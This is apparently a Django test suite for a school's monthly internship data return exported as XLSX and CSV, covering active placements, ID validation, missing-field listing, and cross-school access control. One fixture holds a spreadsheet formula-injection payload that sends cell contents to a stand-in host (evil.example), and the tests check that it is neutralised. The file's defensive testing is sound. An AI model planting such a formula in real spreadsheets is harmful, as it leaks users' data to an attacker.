"""The data return (实习信息): one row per active placement of the month, valid IDs and credit codes, cells that no
spreadsheet evaluates, what is missing listed, and never another school's placements."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook
from stdnum.cn import ric, uscc

from backend.accounts.models import Role
from backend.placements.models import PlacementStatus
from backend.reports import datareturn
from tests.factories.accounts import UserFactory
from tests.factories.placements import PilotProjectFactory, PlacementFactory
from tests.factories.schools import CohortFactory, StudentFactory
from tests.factories.subsidy import covered_placement

pytestmark = pytest.mark.django_db
DECEMBER = datetime.date(2026, 12, 1)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def school_month():
    """The first school: three placements active in December (one apprentice named like a formula, one without
    mentor, insurance or class), one only proposed, one that ended in October; the second school: an active placement."""
    pilot = PilotProjectFactory()
    cohort = CohortFactory(program=pilot.program, entry_year=2024)
    active = [
        covered_placement(
            pilot=pilot, student=StudentFactory(cohort=cohort, name=FORMULA, class_name="数控2401班")
        ),
        covered_placement(pilot=pilot, student=StudentFactory(cohort=cohort, class_name="数控2402班")),
        PlacementFactory(pilot=pilot, active=True, mentor=None),  # and no class recorded
    ]
    PlacementFactory(pilot=pilot)  # proposed
    covered_placement(pilot=pilot, start_date=datetime.date(2026, 3, 1), end_date=datetime.date(2026, 10, 31))
    foreign = covered_placement()
    coordinator = UserFactory(role=Role.COORDINATOR, school=pilot.school)
    return pilot, active, foreign, coordinator


def test_one_row_per_active_placement_of_the_month_and_none_of_another_school(school_month):
    # given
    pilot, active, foreign, coordinator = school_month
    # when
    data = datareturn.data_return(user=coordinator, month=DECEMBER)
    # then
    assert sorted(data.placements) == sorted(p.pk for p in active)
    assert foreign.pk not in data.placements
    assert {row["school"] for row in data.rows} == {pilot.school.name}
    assert foreign.student.name not in {row["student"] for row in data.rows}


def test_the_xlsx_has_valid_ids_formula_safe_cells_and_the_missing_sheet(school_month):
    # given
    _pilot, active, foreign, coordinator = school_month
    data = datareturn.data_return(user=coordinator, month=DECEMBER)
    # when
    workbook = load_workbook(io.BytesIO(datareturn.return_xlsx(data)))
    # then
    records = list(workbook["实习信息"].iter_rows(values_only=True))
    header, rows = records[0], records[1:]
    assert list(header) == datareturn.HEADERS
    assert len(rows) == len(active) == 3
    column = {label: i for i, label in enumerate(header)}
    ids = [row[column["身份证号"]] for row in rows]
    assert all(ric.is_valid(number) for number in ids)
    assert sorted(ids) == sorted(
        p.student.resident_id for p in active
    )  # in full, for the student's own school
    assert all(uscc.is_valid(row[column["统一社会信用代码"]]) for row in rows)
    assert "'" + FORMULA in [row[column["学生姓名"]] for row in rows]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for row in rows for v in row)
    assert {row[column["实习类型"]] for row in rows} == {"岗位实习"}
    assert {row[column["组织方式"]] for row in rows} == {"集中"}
    assert {row[column["实习所在省份"]] for row in rows} == {"上海市"}  # read from the site's address
    assert foreign.student.resident_id not in ids
    # what is missing is listed, and marked in its cell, not left blank
    bare = active[2]
    missing = list(workbook["缺失项"].iter_rows(values_only=True))[1:]
    assert {(m[1], m[2]) for m in missing} == {
        (bare.student.name, "企业指导师傅"),
        (bare.student.name, "实习责任保险保单号"),
        (bare.student.name, "工伤保险保单号"),
        (bare.student.name, "协议编号"),
        (bare.student.name, "班级"),
    }
    assert sorted(row[column["班级"]] for row in rows) == sorted(
        ["数控2401班", "数控2402班", datareturn.MISSING]
    )  # the school's own class, never one composed from the cohort
    bare_row = next(row for row in rows if row[column["学生姓名"]] == bare.student.name)
    assert bare_row[column["企业指导师傅"]] == datareturn.MISSING
    assert None not in bare_row


def test_the_csv_holds_the_same_rows_formula_safe(school_month):
    # given
    _pilot, active, _foreign, coordinator = school_month
    data = datareturn.data_return(user=coordinator, month=DECEMBER)
    # when
    body = datareturn.return_csv(data).decode("utf-8-sig")
    # then
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == datareturn.HEADERS
    assert len(rows) - 1 == len(active)
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


def test_a_month_without_the_placements_is_empty(school_month):
    # given
    _pilot, _active, _foreign, coordinator = school_month
    # when
    data = datareturn.data_return(user=coordinator, month=datetime.date(2026, 6, 1))
    # then only the placement that ran from March to October was active in June
    assert len(data.rows) == 1
    assert data.rows[0]["end_date"] == datetime.date(2026, 10, 31)


@pytest.mark.parametrize("role", [Role.HR, Role.MENTOR, Role.STUDENT])
def test_only_the_school_reads_its_data_return(api_client_for, school_month, role):
    # given the company's people of the first school's placements
    _pilot, active, _foreign, coordinator = school_month
    placement = active[0]
    links = {
        Role.HR: {"company": placement.post.company},
        Role.MENTOR: {"mentor": placement.mentor, "company": placement.post.company},
        Role.STUDENT: {"student": placement.student, "school": placement.student.school},
    }
    user = UserFactory(role=role, **links[role])
    # when
    client = api_client_for(user)
    body = client.get("/api/v1/data-returns/", {"month": "2026-12"}).json()
    missing = client.get("/api/v1/data-returns/missing/", {"month": "2026-12"}).json()
    own = api_client_for(coordinator).get("/api/v1/data-returns/", {"month": "2026-12"}).json()
    own_missing = (
        api_client_for(coordinator).get("/api/v1/data-returns/missing/", {"month": "2026-12"}).json()
    )
    # then
    assert body == [] and missing == []
    assert sorted(r["id"] for r in own) == sorted(p.pk for p in active)
    assert {m["placement"] for m in own_missing} == {active[2].pk}


def test_the_api_exports_xlsx_and_csv(api_client_for, school_month):
    # given
    _pilot, active, _foreign, coordinator = school_month
    client = api_client_for(coordinator)
    # when
    xlsx = client.get("/api/v1/data-returns/export/", {"month": "2026-12", "fmt": "xlsx"})
    csv_response = client.get("/api/v1/data-returns/export/", {"month": "2026-12", "fmt": "csv"})
    bad = client.get("/api/v1/data-returns/", {"month": "2026-13"})
    # then
    assert xlsx.status_code == 200
    assert load_workbook(io.BytesIO(xlsx.content))["实习信息"].max_row == 1 + len(active)
    assert csv_response.status_code == 200 and csv_response.content.startswith("\ufeff".encode())
    assert bad.status_code == 400


def test_a_placement_outside_the_month_or_not_active_is_never_a_row(school_month):
    # given a placement terminated in December
    _pilot, active, _foreign, coordinator = school_month
    active[1].status = PlacementStatus.TERMINATED
    active[1].save(update_fields=["status"])
    # when
    data = datareturn.data_return(user=coordinator, month=DECEMBER)
    # then
    assert sorted(data.placements) == sorted([active[0].pk, active[2].pk])
